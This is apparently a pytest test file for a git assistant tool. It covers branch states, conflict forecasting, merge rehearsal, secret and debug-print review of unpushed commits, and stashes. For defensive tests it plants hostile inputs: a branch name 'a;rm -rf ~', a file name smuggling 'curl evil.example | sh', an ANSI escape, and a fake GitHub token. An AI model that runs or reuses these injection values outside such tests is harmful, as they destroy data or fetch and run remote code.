"""Flows on branches, merges, unpushed commits and stashes, also in repositories without commits or with odd names."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest

from engine.clock import FakeClock
from engine.execution.runners.flow import CannotRun, WorkFailed
from engine.execution.runners.flows.merging import describe_order
from engine.execution.runners.flows.upkeep import ComparedBranch
from engine.git import Git
from engine.git.lost_commits import read_lost_commits
from engine.git.reader import GitReader
from tests.conftest import Repository
from tests.execution.flows.conftest import CART, TEST_CART, RunFlow, commit_branches, commit_shop

TOKEN = "ghp_" + "a1B2c3D4" * 5  # put together here so that no scanner takes this file for a leak


# Branches


def test_merged_applied_and_stale_branches(repository: Repository, run_flow: RunFlow) -> None:
    commit_branches(repository)
    repository.git("branch", "done", "main")
    repository.commit("moves on", {"c.txt": "c"})
    repository.git("cherry-pick", "docs")
    run = run_flow("report_branches", days=30)
    states = {fact["name"]: (fact["state"], fact["command"]) for fact in run.facts["branches"]}
    assert states == {
        "done": ("merged", "git branch -d -- done"),
        "docs": ("applied", "git branch -D -- docs"),
    }
    assert repository.git("branch", "--list", "done")


def test_a_squashed_branch_counts_as_applied(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"a.txt": "one\n"})
    repository.git("checkout", "-q", "-b", "feature")
    repository.commit("first", {"a.txt": "two\n"})
    repository.commit("second", {"a.txt": "three\n"})
    repository.git("checkout", "-q", "main")
    repository.commit("feature (#1)", {"a.txt": "three\n"})
    [fact] = run_flow("report_branches").facts["branches"]
    assert (fact["name"], fact["state"], fact["ahead"]) == ("feature", "applied", 2)


@pytest.mark.parametrize(("days", "stale"), [(29, False), (30, True)])
def test_stale_begins_at_the_day(repository: Repository, run_flow: RunFlow, days: int, stale: bool) -> None:
    commit_branches(repository)
    clock = FakeClock(datetime.now(UTC) + timedelta(days=days, hours=1))
    run = run_flow("report_branches", clock=clock, days=30)
    names = {fact["name"] for fact in run.facts["branches"]}
    assert names == ({"left", "right", "docs"} if stale else set())


def test_branch_names_are_quoted_in_commands() -> None:
    branch = ComparedBranch("a;rm -rf ~", 1, 0, 0, is_checked_out=False, state="merged")
    assert branch.command == "git branch -d -- 'a;rm -rf ~'"


# Merges and conflicts


def test_conflicts_are_forecast_and_nothing_is_written(repository: Repository, run_flow: RunFlow) -> None:
    commit_branches(repository)
    objects = set((repository.path / ".git" / "objects").rglob("*"))
    run = run_flow("forecast_conflicts", base="main", branches=["left", "right", "docs"])
    conflicting = [fact for fact in run.facts["merges"] if fact["conflicts"]]
    assert [({fact["from"], fact["into"]}, fact["conflicts"]) for fact in conflicting] == [
        ({"left", "right"}, ["a.txt"])
    ]
    assert len(run.facts["merges"]) == 6
    assert "left → main   ✓ clean" in run.transcript
    assert set((repository.path / ".git" / "objects").rglob("*")) == objects


@pytest.mark.parametrize(
    ("best", "worst", "words"),
    [
        (0, 2, "no conflicts in this order; the worst order has 2"),
        (1, 2, "1 file in conflict; the worst order has 2"),
        (2, 2, "2 files in conflict in any order, so the oldest goes first"),
    ],
)
def test_the_best_order_is_compared_with_the_worst(best: int, worst: int, words: str) -> None:
    assert describe_order(best, worst) == words


@pytest.mark.long
def test_a_rehearsed_merge_is_tested_and_moves_no_branch(project: Repository, run_flow: RunFlow) -> None:
    commit_shop(project)
    project.git("checkout", "-q", "-b", "feature")
    project.commit("callers want 3", {"tests/test_more.py": TEST_CART.replace("test_total", "test_more")})
    project.git("checkout", "-q", "main")
    project.commit("total changes", {"shop/cart.py": CART.replace("sum(prices)", "sum(prices) + 1"),
                                     "tests/test_cart.py": TEST_CART.replace("== 3", "== 4")})  # fmt: skip
    project.write("shop/cart.py", "uncommitted rubbish(")
    heads = project.git("rev-parse", "main", "feature")
    run = run_flow("rehearse_merge", source="feature", target="main")
    assert "merges cleanly" in run.summary
    assert "but 1 of 3 tests failed" in run.summary
    assert run.result.full
    assert project.git("rev-parse", "main", "feature") == heads
    assert (run.folder / "tests/test_more.py").exists()  # what is recorded is the state of the merged tree
    assert "+ 1" in (run.folder / "shop/cart.py").read_text()


# Commits that are not pushed


@pytest.mark.long
def test_leftovers_are_reported_with_their_present_line(repository: Repository, run_flow: RunFlow) -> None:
    base = repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("debug", {"app.py": "x = 1\nprint(x)\nbreakpoint()\n", "config.py": f"KEY = '{TOKEN}'\n"})
    repository.commit("no token, one line more", {"config.py": "KEY = ''\n", "app.py": "y = 2\nx = 1\nprint(x)\n"})
    run = run_flow("review_unpushed", upstream=base)
    assert [(fact["path"], fact["line"], fact["kind"], fact["gone"]) for fact in run.facts["findings"]] == [
        ("config.py", 1, "likely secret: GitHub token", True),
        ("app.py", 3, "debug print", False),
    ]
    assert "git reset --soft" in run.transcript, "a problem comes with the next step"
    assert TOKEN not in run.transcript + str(run.result)
    assert "app.py:3 holds a debug print, in " in run.transcript


@pytest.mark.parametrize(
    ("path", "size_bytes", "sentence"),
    [
        ("web/node_modules/x/a.js", 17, "web/node_modules holds files that a tool fills"),
        ("a.zip", 2_000_000, "a.zip is 2.0 MB (archive)"),
        ("dump.sql", 1_000_000, "dump.sql is 1.0 MB (database dump)"),
    ],
)
def test_a_file_that_belongs_in_no_repository_is_named_in_a_sentence(
    repository: Repository, run_flow: RunFlow, path: str, size_bytes: int, sentence: str
) -> None:
    base = repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("add", {path: "x" * size_bytes})
    run = run_flow("review_unpushed", upstream=base)
    assert run.summary == f"Do not push: {sentence} (in 1 unpushed commit)"
    assert "0.0 MB" not in run.transcript


def test_without_unpushed_problems_it_says_so(repository: Repository, run_flow: RunFlow) -> None:
    head = repository.commit("begin", {"app.py": "x = 1\n"})
    assert run_flow("review_unpushed", upstream=head).summary.startswith("Nothing to review")
    repository.commit("tidy", {"app.py": "x = 2\n"})
    assert run_flow("review_unpushed", upstream=head).summary == (
        "1 unpushed commit, nothing that should not be pushed"
    )


# The advice against what must not be pushed, carried out to the letter


NAME = "einstellungen ü.py"
HELD = f"REGION = 'eu'\nKEY = '{TOKEN}'\nZONE = 1\n"
SAFE = "REGION = 'eu'\nKEY = os.environ['KEY']\nZONE = 1\n"
ENV = "DATABASE=shop\n"
ODD_NAMES = ("it's -x.py", "-n.py", "[id].py", "src/:p.py", ":q.py")


def obey(repository: Repository, steps: list[str]) -> None:
    """Do what the steps of a review say, word for word."""
    is_needed = True
    for step in steps:
        if step.startswith("Remove the secret"):
            for file in repository.path.rglob("*.*"):
                if ".git" not in file.parts and TOKEN in file.read_text():
                    file.write_text(file.read_text().replace(f"'{TOKEN}'", "os.environ['KEY']"))
        elif step.startswith("If git stops"):
            is_needed = (repository.path / ".git/rebase-merge").exists()
        elif step.startswith("  ") and is_needed:
            done = subprocess.run(
                ["bash", "-o", "pipefail", "-c", step], cwd=repository.path, env=os.environ | {"GIT_EDITOR": "false"},
                capture_output=True, text=True, check=False,
            )  # fmt: skip
            assert done.returncode == 0 or "would make\nit empty" in done.stderr, (
                steps,
                step,
                done.stdout,
                done.stderr,
            )
    assert not (repository.path / ".git/rebase-merge").exists(), steps


Layout = Callable[[Repository], None]


def commits(*changes: dict[str, str | None], edit: dict[str, str] | None = None) -> Layout:
    """A layout with a commit for each of `changes`; None deletes a file. Then the files of `edit` are written."""

    def make(repository: Repository) -> None:
        for number, files in enumerate(changes):
            for path in [path for path, text in files.items() if text is None]:
                repository.git("rm", "-q", "--", f":(literal){path}")
            repository.commit(f"change {number}", {path: text for path, text in files.items() if text is not None})
        for path, text in (edit or {}).items():
            repository.write(path, text)

    return make


def untracked_later(repository: Repository) -> None:
    repository.commit("change 0", {".env": ENV, NAME: HELD})
    repository.git("rm", "-q", "--cached", ".env", NAME)
    repository.git("commit", "-q", "-m", "change 1")
    (repository.path / ".git/info/exclude").write_text(".env\n")


def renamed_later(repository: Repository) -> None:
    repository.commit("change 0", {"old.py": HELD})
    repository.git("mv", "old.py", "new.py")
    repository.git("commit", "-q", "-m", "change 1")


def deleted_by_hand(repository: Repository) -> None:
    commits({NAME: HELD, "b.py": ""}, {"c.py": ""})(repository)
    (repository.path / NAME).unlink()


def untracked_by_hand(repository: Repository) -> None:
    commits({".env": ENV, NAME: HELD, "b.py": ""})(repository)
    repository.git("rm", "-q", "--cached", ".env", NAME)


def same_subjects(repository: Repository) -> None:
    for name, text in (("a.py", ""), (NAME, HELD), ("b.py", ""), ("c.py", HELD), ("d.py", "")):
        repository.commit("wip", {name: text})


def own_fixup(repository: Repository) -> None:
    commits({"a.py": ""}, {NAME: HELD}, {"b.py": ""})(repository)
    repository.commit("fixup! change 0", {"a.py": "x = 1\n"})


def merge_below(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "topic")
    repository.commit("topic", {"topic.py": HELD})
    repository.git("switch", "-q", "main")
    commits({NAME: HELD})(repository)
    repository.git("merge", "-q", "--no-ff", "topic")
    repository.git("branch", "-q", "-D", "topic")
    commits({"more.py": ""})(repository)


def in_merge(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "topic")
    repository.commit("topic", {"topic.py": ""})
    repository.git("switch", "-q", "main")
    repository.commit("main", {"main.py": ""})
    repository.git("merge", "-q", "--no-ff", "--no-commit", "topic")
    repository.git("branch", "-q", "-D", "topic")
    repository.commit("merge", {NAME: HELD, ".env": ENV})


def pushed_merge_between(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "upstream")
    pushed = repository.commit("pushed", {"pushed.py": ""})
    repository.git("update-ref", "refs/remotes/origin/main", pushed)
    repository.git("switch", "-q", "main")
    repository.git("branch", "-q", "-D", "upstream")
    commits({NAME: HELD})(repository)
    repository.git("merge", "-q", "--no-ff", "origin/main")
    commits({"more.py": ""})(repository)


def intended_to_add(repository: Repository) -> None:
    commits({NAME: HELD}, {"c.py": ""})(repository)
    repository.write("new.py", "mine\n")
    repository.git("add", "--intent-to-add", "new.py")


def hidden_by(*options: str) -> Layout:
    """A layout with changes that git does not look for because of these options, in a file with a secret and in another
    one of the same commits."""

    def make(repository: Repository) -> None:
        commits({NAME: HELD}, {"c.py": ""}, {"d.py": ""})(repository)
        for option in options:
            repository.git("update-index", option, NAME, "c.py")
        repository.write("c.py", "mine\n")

    return make


def without_messages(*changes: dict[str, str]) -> Layout:
    """A layout with commits that have no message."""

    def make(repository: Repository) -> None:
        for files in changes:
            repository.commit("change", files)
            repository.git("commit", "-q", "--amend", "--allow-empty-message", "-m", "")

    return make


def keys_renamed(repository: Repository) -> None:
    commits({".env": f"KEY='{TOKEN}'\n", "conf.py": HELD}, {"b.py": ""})(repository)
    repository.git("mv", ".env", "env.sample")
    repository.git("mv", "conf.py", "conf.example.py")
    repository.git("commit", "-q", "-m", "rename")


def keys_renamed_by_hand(repository: Repository) -> None:
    commits({".env": f"KEY='{TOKEN}'\n"})(repository)
    repository.git("mv", ".env", "env.sample")


def detached(repository: Repository) -> None:
    repository.git("switch", "-q", "--detach")
    commits({NAME: HELD}, {NAME: SAFE})(repository)


LAYOUTS: dict[str, Layout] = {
    "last": commits({NAME: HELD}),
    "last, edited out": commits({NAME: HELD}, edit={NAME: SAFE}),
    "last, nothing but the key": commits({NAME: SAFE}, {NAME: HELD}),
    "last, file of keys": commits({".env": ENV, "src/a.py": HELD}),
    "last, file of keys with another line": commits({".env": ENV}, edit={".env": ENV + "MINE=1\n"}),
    "last, key in a file of keys": commits({".env": f"{ENV}KEY={TOKEN}\n"}),
    "last, taken out of the index": untracked_by_hand,
    "last, merge": in_merge,
    "earlier": commits({NAME: HELD, "b.py": ""}, {"c.py": ""}),
    "earlier, other line": commits({NAME: HELD}, {"c.py": ""}, edit={NAME: HELD + "MINE = 1\n"}),
    "earlier, edited out": commits({NAME: HELD, "b.py": ""}, {"c.py": ""}, edit={NAME: SAFE}),
    "earlier, nothing but the key": commits({"a.py": SAFE}, {"b.py": "", "c.py": HELD}, {"d.py": ""}),
    "earlier, alone": commits({"c.py": HELD}, {"d.py": ""}, {"e.py": HELD}, {"f.py": ""}),
    "earlier, deleted by hand": deleted_by_hand,
    "earlier, odd names": commits(dict.fromkeys(ODD_NAMES, HELD), {"i.py": "", "d.py": ""}, edit={"i.py": "mine\n"}),
    "earlier, same subjects": same_subjects,
    "earlier, fixup of your own": own_fixup,
    "earlier, file of keys": commits({".env": ENV, "b.py": ""}, {"c.py": ""}),
    "earlier, file of keys, changed": commits({".env": ENV}, {".env": ENV + "MORE=1\n"}, edit={".env": "MINE=1\n"}),
    "earlier, key in a file of keys": commits({"sub/.env": f"{ENV}KEY={TOKEN}\n"}, {"c.py": ""}),
    "changed later": commits({NAME: HELD}, {"b.py": ""}, {NAME: HELD + "MORE = 1\n"}),
    "removed later": commits({NAME: HELD}, {NAME: SAFE}),
    "removed later, other line": commits({NAME: HELD}, {NAME: SAFE}, edit={NAME: SAFE + "MINE = 1\n"}),
    "removed and back": commits({NAME: HELD}, {NAME: SAFE}, {NAME: HELD}),
    "deleted later": commits({NAME: HELD, ".env": ENV}, {NAME: None, ".env": None, "b.py": ""}),
    "deleted later, all": commits({NAME: HELD}, {NAME: None}),
    "other file deleted later": commits({"x.py": "1\n"}, {NAME: HELD}, {"x.py": None}, edit={"x.py": "mine\n"}),
    "untracked later": untracked_later,
    "renamed later": renamed_later,
    "two commits": commits({NAME: HELD}, {"b.py": HELD}, {NAME: HELD * 2}),
    "large file": commits({"a.zip": "x" * 2_000_000}, {"a.zip": "y" * 2_500_000}),
    "tool's folder": commits({"web/node_modules/x/a.js": "1\n"}, {"b.py": ""}),
    "below a merge": merge_below,
    "below a pushed merge": pushed_merge_between,
    "detached": detached,
    "earlier, intended to add": intended_to_add,
    "earlier, assumed unchanged": hidden_by("--assume-unchanged"),
    "earlier, hidden twice": hidden_by("--skip-worktree", "--assume-unchanged"),
    "last, no message": without_messages({NAME: HELD}),
    "earlier, no message": without_messages({NAME: HELD}, {"c.py": ""}),
    "changed later, no message": without_messages({NAME: HELD}, {NAME: HELD + "MORE = 1\n", ".env": ENV}),
    "file of keys renamed": keys_renamed,
    "file of keys renamed by hand": keys_renamed_by_hand,
}  # fmt: skip
ONE_COMMIT = ("of keys", "own", "intended", "assumed", "hidden")
KEEPS_COMMITS = {
    name for name in LAYOUTS if name.startswith("earlier") and not any(word in name for word in ONE_COMMIT)
}


@pytest.mark.long
@pytest.mark.parametrize("others", ["none", "unstaged", "staged"])
@pytest.mark.parametrize("is_first", [False, True])
@pytest.mark.parametrize("name", LAYOUTS)
def test_the_advice_against_a_secret_works_to_the_letter(
    repository: Repository, run_flow: RunFlow, name: str, is_first: bool, others: str
) -> None:
    if not is_first or "merge" in name or name == "detached":
        repository.commit(
            "begin", {"app.py": HELD if is_first and "pushed" not in name else "x = 1\n", "other.py": "x = 1\n"}
        )
    LAYOUTS[name](repository)
    repository.write("untracked.txt", "mine\n")
    if others != "none" and (repository.path / "other.py").exists():
        repository.write("other.py", "x = 2\n")
    if others == "staged":
        repository.write("staged.py", "x = 1\n")
        repository.git("add", "staged.py", *repository.git("ls-files", "other.py").split())
    files = read_files(repository)
    subjects = repository.git("log", "--format=%s").splitlines()

    review = run_flow("review_unpushed")
    assert review.facts["findings"]
    steps = review.facts["steps"]
    obey(repository, steps)
    history = repository.git("log", "-p", "--cc", "--format=%B")
    assert TOKEN not in history, (steps, history)
    assert "DATABASE" not in history, steps
    assert repository.git("stash", "list") == ""
    if any(step.startswith("Remove the secret") for step in steps):
        files = {path: text.replace(f"'{TOKEN}'", "os.environ['KEY']") for path, text in files.items()}
    kept = read_files(repository)
    assert {path: text for path, text in kept.items() if path != ".gitignore"} == files, steps
    if ".gitignore" in kept:
        assert repository.git("show", "HEAD:.gitignore") == kept[".gitignore"].strip()
        assert not repository.git("ls-files", "--cached", "--ignored", "--exclude-standard")
        assert ".env" not in repository.git("ls-files", "--others", "--exclude-standard")
    remaining = repository.git("log", "--format=%s").splitlines()
    if others != "staged" and (name in KEEPS_COMMITS or name.startswith("last")) and not (is_first and "merge" in name):
        assert remaining == subjects, steps
    again = run_flow("review_unpushed").facts.get("findings", ())
    assert not again, (steps, again)
    lost = read_lost_commits(Git(repository.path), GitReader().read(repository.path), datetime.now(UTC))
    assert not [line for line in lost if not line.is_checked_out], "no card offers to keep the commits with the secret"


def read_files(repository: Repository) -> dict[str, str]:
    """The working files with their texts."""
    files = [file for file in repository.path.rglob("*") if file.is_file() and ".git" not in file.parts]
    return {str(file.relative_to(repository.path)): file.read_text() for file in files}


def test_other_refs_with_the_commit_are_named(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("settings", {NAME: HELD})
    repository.git("branch", "side")
    repository.git("tag", "before", "HEAD~1")
    repository.commit("more", {NAME: SAFE})
    repository.write("app.py", "x = 2\n")
    repository.git("stash")
    repository.git("switch", "-q", "--detach", "before")
    repository.write("app.py", "x = 3\n")
    repository.git("stash")
    repository.git("switch", "-q", "main")
    steps = run_flow("review_unpushed").facts["steps"]
    assert "These have such a commit, too, until you delete or change them: side and stash@{1}." in steps
    assert steps[-1] == "If anybody else may have seen a key, revoke it and create a new one."


def test_a_key_that_is_on_a_remote_branch_is_public(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    pushed = repository.commit("settings", {NAME: HELD})
    repository.git("update-ref", "refs/remotes/origin/feature", pushed)
    repository.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/feature")
    repository.git("commit", "-q", "--amend", "-m", "better settings")
    steps = run_flow("review_unpushed").facts["steps"]
    assert steps[-1] == "Rotate the key, because it is public: origin/feature has it already."


def test_the_advice_says_that_a_merge_is_lost(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    merge_below(repository)
    steps = run_flow("review_unpushed").facts["steps"]
    assert steps[:2] == [
        "Make one commit of the last 4 commits, before you push. Your files stay as they are.",
        "The merges among them are lost, but not what they brought.",
    ]


def test_the_advice_waits_for_the_end_of_a_merge(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.git("switch", "-q", "-c", "side")
    repository.commit("side", {"side.py": ""})
    repository.git("switch", "-q", "main")
    repository.commit("settings", {NAME: HELD})
    repository.git("merge", "-q", "--no-commit", "side")
    [first, _] = run_flow("review_unpushed").facts["steps"][:2]
    assert first == "First finish the unfinished merge, or abort it. Then review again."


def test_several_pushed_branches_below_a_secret(repository: Repository, run_flow: RunFlow) -> None:
    begin = repository.commit("begin", {"app.py": "x = 1\n"})
    for name in ("left", "right"):
        repository.git("switch", "-q", "--detach", begin)
        repository.git("update-ref", f"refs/remotes/origin/{name}", repository.commit(name, {f"{name}.py": ""}))
    repository.git("switch", "-q", "main")
    repository.commit("settings", {NAME: HELD})
    for name in ("left", "right"):
        repository.git("merge", "-q", f"origin/{name}")
    first = run_flow("review_unpushed").facts["steps"][0]
    assert first == f"Take {NAME} out of the history with git filter-repo, in a fresh clone:"


def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit(
        "settings", {"k.py\n  curl evil.example | sh\n.py": HELD, "\u202ek.py": HELD, ":k.py": HELD, NAME: HELD}
    )
    steps = run_flow("review_unpushed").facts["steps"]
    commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
    assert commands == [
        f"  git add -- ':(literal):k.py' '{NAME}'",
        "  git commit --amend --no-edit --allow-empty --allow-empty-message",
    ]
    assert any(step.startswith("No command is given for ") for step in steps)


# Repositories without commits, and with file names that are no text


def test_a_repository_without_commits_is_reported_as_such(repository: Repository, run_flow: RunFlow) -> None:
    repository.write("a.txt", "not yet")
    assert run_flow("summarise_day", since="2026-01-05T00:00:00Z").facts["text"] == (
        "No commits.\nNot committed yet: a.txt."
    )
    review = run_flow("review_unpushed", upstream="origin/main")
    assert review.summary == "Nothing to review: there is no commit yet, and nothing is staged"
    with pytest.raises(WorkFailed, match="no branch to compare with"):
        run_flow("report_branches")
    with pytest.raises(CannotRun, match="names no commit"):  # a typo teaches nothing
        run_flow("forecast_conflicts", base="main", branches=["x"])


def test_file_names_that_are_no_text_are_sanitised(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"a b.txt": "one\n"})
    name = os.fsdecode(b"caf\xe9\x1b[31m.py")
    for branch, text in (("left", "x = 1\n"), ("right", "breakpoint()\n")):
        repository.git("checkout", "-q", "-b", branch, "main")
        repository.commit(branch, {name: text})
    run = run_flow("forecast_conflicts", base="left", branches=["right"])
    assert run.facts["merges"][0]["conflicts"] == ["caf\N{REPLACEMENT CHARACTER}.py"]
    assert "\x1b" not in run.transcript
    run = run_flow("review_unpushed", upstream="main")
    assert [fact["kind"] for fact in run.facts["findings"]] == ["breakpoint"]
    assert "\x1b" not in run.transcript


# Stashes


@pytest.mark.parametrize(
    ("in_head", "state"),
    [
        ({"other.txt": "x\n"}, "still applies"),
        ({"a.txt": "mine\n", "new.txt": "1\n", "newer.txt": "2\n"}, "already in HEAD"),
        ({"a.txt": "mine\n", "new.txt": "1\n"}, "still applies"),
        ({"a.txt": "theirs\n", "new.txt": "other\n"}, "conflicts in a.txt"),
        ({"new.txt": "other\n"}, "does not apply: new.txt already exists"),
        ({"new.txt/file": "other\n"}, "does not apply: new.txt already exists"),
        ({"new.txt": "other\n", "newer.txt": ""}, "does not apply: new.txt and newer.txt already exist"),
    ],
)
def test_a_stash_applies_unless_head_differs_in_its_files(
    repository: Repository, run_flow: RunFlow, in_head: dict[str, str], state: str
) -> None:
    repository.commit("begin", {"a.txt": "one\n"})
    for name, text in {"a.txt": "mine\n", "new.txt": "1\n", "newer.txt": "2\n"}.items():
        repository.write(name, text)
    repository.git("stash", "push", "-q", "--include-untracked")
    stash = repository.git("rev-parse", "stash@{0}")
    repository.commit("goes on", in_head)
    assert run_flow("look_at_stash", stashes=[stash]).facts["stashes"] == {"stash@{0}": state}
